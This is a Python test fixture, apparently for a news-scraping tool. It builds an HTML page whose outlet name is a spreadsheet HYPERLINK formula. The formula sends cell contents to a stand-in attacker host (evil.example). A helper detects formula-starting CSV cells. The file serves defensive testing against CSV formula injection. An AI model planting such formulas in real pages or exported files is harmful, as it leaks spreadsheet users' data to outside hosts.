"""Pages written for these tests whose outlet name, title and wording try to start spreadsheet formulas."""

from __future__ import annotations

from pathlib import Path

# An outlet's og:site_name as an attacker would set it: opened in a spreadsheet, the cell would run.
FORMULA_SITE = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>{title}</title>
<meta property="og:site_name" content="{site}">
<meta property="article:published_time" content="2024-04-16T09:30:00Z">
<link rel="canonical" href="https://{domain}/2024/04/strike">
</head><body><article><h1>{title}</h1>
<p>Two journalists were killed on Monday when a drone struck their car, which was marked as a press
vehicle, on the road south of the city of Idlib, colleagues said.</p>
<p>Their driver was wounded and taken to a hospital in the city.</p>
</article></body></html>
"""


def write_hostile_page(folder: Path) -> Path:
    """One HTML page whose outlet name is a HYPERLINK formula (escaped for the attribute)."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "formula-outlet.html"
    site = FORMULA_SITE.replace("&", "&amp;").replace('"', "&quot;")
    path.write_text(
        _PAGE.format(title="@SUM(1+1) drone strikes press car near Idlib", site=site, domain="formula.example"),
        encoding="utf-8",
    )
    return path


def formula_cells(rows: list[list[str]]) -> list[str]:
    """The cells of parsed CSV rows that a spreadsheet would read as a formula."""
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
